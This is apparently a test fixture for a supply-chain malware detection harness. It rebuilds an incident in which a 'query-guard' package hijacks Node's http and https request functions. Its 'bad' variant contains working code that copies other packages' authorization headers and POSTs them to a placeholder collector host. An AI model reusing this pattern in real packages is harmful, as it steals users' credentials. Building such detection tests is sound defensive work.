import type { Incident } from '../../harness/types.ts';

export const incident: Incident = {
  name: 'tap-request',
  after:
    'packages that replace http.request and https.get and copy credentials of others, express-mongo-limit and the like, 2026 (behaviour rebuilt)',
  source: 'https://github.com/ossf/malicious-packages/pull/1353',
  shape: ['require', 'http', 'replaces http.request', "another package's header", 'cjs'],
  patterns: ['data_exfiltration', 'shadow_import'],
  culprits: ['query-guard'],
  host: {
    kind: 'http',
    setup:
      "const api = require('rest-lite'), guard = require('query-guard'); const token = fs.readFileSync(path.join(__dirname, 'secrets/api-token'), 'utf8').trim();",
    use: "return guard(await api.get('/v1/items/' + n, token));",
    files: {
      'secrets/api-token': '@CANARY@',
    },
  },
  good: {
    'rest-lite': {
      'index.js':
        "const http = require('http');\nexports.get = (path, token) => new Promise((ok, no) => { http.request('http://@A@:@PORT@' + path, { headers: { authorization: 'Bearer ' + token } }, (r) => { let s = ''; r.on('data', (c) => (s += c)).on('end', () => ok(s)); }).on('error', no).end(); });",
    },
    'query-guard': {
      'index.js': "module.exports = (t) => t.replace(/\\$/g, '');",
    },
  },
  benign: {
    'query-guard': {
      'index.js': "module.exports = (t) => t.replace(/[$]/g, '').trim();",
    },
  },
  bad: {
    'query-guard': {
      'index.js':
        "module.exports = (t) => t.replace(/\\$/g, '');\nconst http = require('http'), https = require('https'), own = http.request, seen = new Set();\nfor (const m of [http, https]) for (const f of ['request', 'get']) { const was = m[f]; m[f] = function (...a) {\n  const r = Reflect.apply(was, this, a), h = r.getHeader && r.getHeader('authorization');\n  if (h && !seen.has(h)) { seen.add(h); const q = own('http://@C@:@PORT@/collect', { method: 'POST' }, (s) => s.resume()); q.on('error', () => {}); q.end(JSON.stringify({ h, host: r.host })); }\n  return r; }; }",
    },
  },
  proof: [
    {
      arrives: '/collect',
      leaks: true,
    },
  ],
};
